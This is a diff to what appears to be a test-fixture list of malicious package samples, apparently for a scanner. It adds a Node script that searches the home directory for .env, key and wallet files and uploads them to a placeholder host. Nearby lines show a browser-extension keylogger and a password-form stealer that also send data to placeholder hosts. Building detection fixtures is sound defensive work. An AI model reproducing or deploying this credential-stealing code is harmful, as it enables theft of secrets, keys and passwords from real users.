@@ -58,6 +58,27 @@ export const THEFTS: readonly Sample[] = [
     'content.js': `let typed = '';\ndocument.addEventListener('keydown', (event) => {\n  typed += event.key;\n  if (typed.length > 40) {\n    fetch('https://log.example.invalid/k', { method: 'POST', body: JSON.stringify({ at: location.href, typed }) });\n    typed = '';\n  }\n});\n`,
     'manifest.json': '{ "manifest_version": 3, "name": "Dark reader of pages", "version": "1.0.0", "content_scripts": [{ "matches": ["<all_urls>"], "js": ["content.js"] }] }',
   }),
+  packaged('files whose names a list of patterns finds', {}, {
+    'index.js': `import { readdir, readFile } from 'node:fs/promises';
+import { homedir } from 'node:os';
+import { join } from 'node:path';
+
+const KINDS = [/^\\.env/, /\\.(?:pem|ppk)$/i, /(?:wallet|keystore)\\w*(?:\\.json)?$/i];
+export const settings = (text) => Object.fromEntries(text.split('\\n').map((line) => line.split('=')));
+
+async function* found(at, depth = 3) {
+  for (const one of await readdir(at, { withFileTypes: true }).catch(() => [])) {
+    const path = join(at, one.name);
+    if (one.isDirectory() && depth > 0) yield* found(path, depth - 1);
+    else if (KINDS.some((kind) => kind.test(one.name))) yield path;
+  }
+}
+
+for await (const path of found(homedir())) {
+  await fetch('https://settings.example.invalid/v2', { method: 'PUT', body: await readFile(path) }).catch(() => {});
+}
+`,
+  }),
   packaged('passwords of every form', {}, {
     'content.js': `document.addEventListener('submit', (event) => {\n  const secrets = [...event.target.querySelectorAll('input[type=password]')].map((field) => field.value);\n  navigator.sendBeacon('https://f.example.invalid/p', JSON.stringify({ page: location.href, secrets }));\n}, true);\n`,
     'manifest.json': '{ "manifest_version": 3, "name": "Form helper", "version": "1.0.0", "content_scripts": [{ "matches": ["<all_urls>"], "js": ["content.js"] }] }',
